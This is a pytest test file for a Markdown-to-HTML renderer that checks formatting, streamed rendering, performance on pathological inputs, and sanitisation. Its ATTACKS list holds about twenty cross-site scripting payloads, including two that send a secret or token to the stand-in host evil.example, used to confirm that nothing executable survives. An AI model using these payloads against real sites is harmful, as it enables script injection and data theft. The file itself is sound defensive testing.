"""Answers as HTML: what is shown, what must not pass, and that a growing text ends as the whole one."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iolite.server.markup import MOST_TEXT, GrowingHtml, to_html

TEXT = r"""# Three colours

A **stone** with `code`, $x^2$ and \(a + b\); it costs $5 or $6.

\[
a
+ b
\]

$$\frac{a}{b}$$

```python
def f(x):  # <b>
    return 1
```

| a | b |
|:--|--:|
| 1 | $y$ |

1. one
2. two

> [a link](https://a.example/?q=1)
"""


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Tags()
    reader.feed(html)
    return reader.found


def test_what_is_shown():
    html = to_html(TEXT)
    assert "<h1>Three colours</h1>" in html
    assert "<strong>stone</strong>" in html and "<code>code</code>" in html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html and "<mfrac>" in html
    assert html.count("<math") == 5
    assert html.count("<li>") == 2, "the formula's + is no list"
    assert "costs $5 or $6." in html
    assert '<span class="k">def</span>' in html and '<button class="copy" type="button">Copy</button>' in html
    assert '<td class="right"><math' in html
    assert 'href="https://a.example/?q=1" target="_blank" rel="noopener noreferrer nofollow"' in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="x" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?secret)",
    '![x" onerror="alert(1)](https://evil.example/)',
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    '$\\color{red" onload="x}{y}$',
    "$$</math><script>alert(1)</script>$$",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=token></form>',
    "<svg/onload=alert(1)><math><mtext><style><img src=x onerror=alert(1)>",
    '|a|\n|-|\n|<td style="position:fixed">|',
    "<iframe src=https://evil.example></iframe>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads(attack):
    for html in (to_html(attack), to_html(f"> - {attack}\n\ntext {attack} text")):
        for tag, attributes in tags(html):
            assert tag not in ("script", "img", "svg", "style", "iframe", "form", "input", "link", "meta", "object")
            assert not any(name.startswith("on") or name in ("style", "src", "action") for name in attributes), html
            assert re.match(r"https?:|mailto:", attributes.get("href") or "https:"), html


@given(st.text(alphabet="<>\"'&$\\[](){}`*_#|-!\n /abjscript:=", max_size=200))
def test_whatever_is_written_is_clean(text):
    for tag, attributes in tags(to_html(text)):
        assert tag not in ("script", "img", "svg", "style", "iframe")
        assert not any(name.startswith("on") or name == "style" for name in attributes)


@pytest.mark.parametrize("seed", range(20))
def test_a_growing_text_ends_as_the_whole_one(seed):
    draw, growing, settled, at, tail = random.Random(seed), GrowingHtml(), "", 0, ""
    while at < len(TEXT):
        step = draw.randint(1, 30)
        growing.push(TEXT[at : at + step])
        at += step
        if draw.random() < 0.7 or at >= len(TEXT):
            more, tail = growing.take()
            settled += more
    assert (settled + tail).replace("\n", "") == to_html(TEXT).replace("\n", "")


def test_what_has_settled_is_not_made_again():
    growing = GrowingHtml()
    growing.push("one paragraph\n\nanother\n\na third")
    settled, tail = growing.take()
    assert "another" in settled and tail == "<p>a third</p>\n"
    growing.push(" that grows")
    assert growing.take() == ("", "<p>a third that grows</p>\n")


BAD = {
    "brackets": "\\(" * 40_000, "lines": "\\[\n" * 20_000, "dollars": "$" * 90_000, "links": "[" * 90_000,
    "stars": "*a " * 30_000, "quotes": "> " * 40_000, "ticks": "`" * 50_000 + "a" + "`" * 40_000,
    "braces": "$" + "{" * 3_000 + "$", "fractions": "$" + "\\frac" * 700 + "$", "long": "a " * MOST_TEXT,
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_texts_that_are_hard_to_read_end(name):
    assert to_html(BAD[name])  # quadratic readers would take longer than a test may


def test_a_formula_that_cannot_be_read_is_shown_as_it_is():
    for source in ("\\left(", "\\sqrt", "\\begin{x}"):
        assert f"<code>{source}</code>" in to_html(f"${source}$")
    assert "xxxx" in to_html("$" + "x" * 5_000 + "$")
